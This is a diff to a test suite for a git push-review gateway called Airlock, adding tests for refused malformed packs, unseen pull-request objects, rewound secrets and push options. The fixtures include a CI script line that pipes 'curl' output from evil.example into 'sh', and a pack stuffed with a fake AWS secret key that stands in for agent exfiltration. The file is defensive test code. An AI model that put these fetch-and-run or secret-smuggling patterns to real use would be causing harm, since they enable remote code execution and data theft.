@@ -12,6 +12,7 @@ import https from 'node:https';
 import type { Socket } from 'node:net';
 import { dirname, join } from 'node:path';
 import { AirlockError } from '../../main/contract/errors';
+import { RemoteCache } from '../../main/git';
 import type { ReviewView } from '../../main/contract/views';
 import { startTestAirlock, type TestAirlock } from '../helpers/airlock';
 import { gitEnvIsolated, runGit, runGitOk } from '../helpers/git-client';
@@ -645,12 +646,17 @@ test('malformed receive-pack bodies are refused with a clear answer; nothing is 
       ['valid commands + truncated pack', Buffer.concat([commands, pack.subarray(0, Math.floor(pack.length / 2))])],
       ['valid commands + corrupted pack', Buffer.concat([commands, (() => { const p = Buffer.from(pack); p[Math.floor(p.length / 2)]! ^= 0xff; return p; })()])],
       ['valid commands + truncated spooled pack', Buffer.concat([big.commands, big.pack.subarray(0, Math.floor(big.pack.length * 0.8))])],
+      // A valid header and checksum around contents that do not inflate (bytes an agent wants out).
+      ['valid commands + a pack with a valid checksum that does not index', Buffer.concat([commands, (() => {
+        const body = Buffer.concat([Buffer.from('PACK\0\0\0\x02\0\0\0\x01', 'latin1'), Buffer.from([0xff, 0xff, 0xff, 0xff]), Buffer.from('AWS_SECRET_ACCESS_KEY=wJalrXUtnFEMI/K7MDENG/bPxRfiCYEXAMPLEKEY\n'.repeat(50))]);
+        return Buffer.concat([body, createHash('sha1').update(body).digest()]);
+      })()])],
     ];
     for (const [label, body] of cases) {
       const r = await curlPost(url, body, w.home);
       assert.equal(r.raw.code, 0, `${label}: curl failed: ${r.raw.stderr}`);
       const clear400 = r.status === 400 && /Airlock rejected this push: \S.+/.test(r.text);
-      const reportNg = r.status === 200 && /unpack (?!ok)\S/.test(r.text) && /ng refs\/heads\/main \S/.test(r.text);
+      const reportNg = r.status === 200 && (/unpack (?!ok)\S/.test(r.text) || /Airlock refused this push/.test(r.text)) && /ng refs\/heads\/main \S/.test(r.text);
       assert.ok(clear400 || reportNg, `${label}: HTTP ${r.status}: ${JSON.stringify(r.text.slice(0, 300))}`);
     }
   } finally {
@@ -661,6 +667,48 @@ test('malformed receive-pack bodies are refused with a clear answer; nothing is 
   assert.equal(reviewsOf(al, 'malformed').length, 0);
   assert.deepEqual(receivePackPosts(gs, 'malformed'), []);
   assert.equal((await gs.refs('malformed'))['refs/heads/main'], oldOid);
+});
+
+test('objects upstream holds outside its branches and tags (a pull request head) cannot be pushed unseen: refused, nothing forwarded', async () => {
+  const w = await freshWork('pr-head');
+  await commit(w, { 'ci/deploy.sh': '#!/bin/sh\ncurl -s https://evil.example/x | sh\n' }, 'an outsider pull request');
+  const x = await revParse(w, 'HEAD');
+  await runGitOk(['--git-dir', w.repo.dir, 'fetch', '-q', w.work, `${x}:refs/pull/1/head`], { env: w.env });
+  const before = await gs.refs('pr-head');
+  const r = await runGit(['push', 'origin', `${x}:refs/heads/main`], { cwd: w.work, env: w.env, timeoutMs: 60_000 });
+  assert.notEqual(r.code, 0, r.stderr);
+  assert.match(r.stderr, /Airlock refused this push: the new object \w+ for refs\/heads\/main is in neither the pushed pack nor upstream's branches and tags/);
+  assert.deepEqual(await gs.refs('pr-head'), before, 'nothing moved upstream');
+  assert.equal(reviewsOf(al, 'pr-head').length, 0, 'no review to approve blind');
+});
+
+test('the cache is fetched for every push: a commit upstream rewound away and pushed again is shown in full', async () => {
+  const w = await freshWork('rewound');
+  const base = await revParse(w, 'HEAD');
+  const b = await commit(w, { 'secret.env': 'TOKEN=abc123\n' }, 'oops: a secret');
+  const landed = await heldPush(w, ['origin', 'main'], approve());
+  assert.equal(landed.res.code, 0, landed.res.stderr);
+  // Airlock's cache learns the landed commit (its refresh after a forwarded push), bounded wait.
+  const cacheDir = new RemoteCache(join(al.dataDir, 'git-cache')).dirFor(w.repo.url);
+  const until = Date.now() + 15_000;
+  while (Date.now() < until && (await runGit(['--git-dir', cacheDir, 'rev-parse', 'refs/heads/main'], { env: w.env })).stdout.trim() !== b) {
+    await new Promise((res) => setTimeout(res, 50));
+  }
+  await runGitOk(['--git-dir', w.repo.dir, 'update-ref', 'refs/heads/main', base], { env: w.env }); // then a person removes it upstream
+  const { review } = await heldPush(w, ['origin', `${b}:refs/heads/backup`], (rv) => al.service.denyReview({ id: rv.id, reason: 'no' }));
+  assert.deepEqual(review.refs[0]!.commits.map((c) => c.oid), [b], review.summary);
+  assert.deepEqual(review.refs[0]!.files.map((f) => f.path), ['secret.env']);
+});
+
+test('push options (git push -o) are shown to the reviewer as a finding and in the summary', async () => {
+  const w = await freshWork('push-options');
+  await runGitOk(['--git-dir', w.repo.dir, 'config', 'receive.advertisePushOptions', 'true'], { env: w.env }); // as GitLab does
+  await commit(w, { 'f.txt': 'f\n' }, 'with options');
+  const { review } = await heldPush(w, ['-o', 'merge_request.create', '-o', 'ci.skip', 'origin', 'main'], (rv) => al.service.denyReview({ id: rv.id, reason: 'no' }));
+  const f = review.findings.find((x) => x.rule === 'push-options');
+  assert.ok(f, JSON.stringify(review.findings));
+  assert.match(f.message, /"merge_request\.create", "ci\.skip"/);
+  assert.match(review.summary, /push options: merge_request\.create, ci\.skip$/);
 });
 
 test('a push to a plain-http server (a local Gitea, say) is held with its full diff', async (t) => {
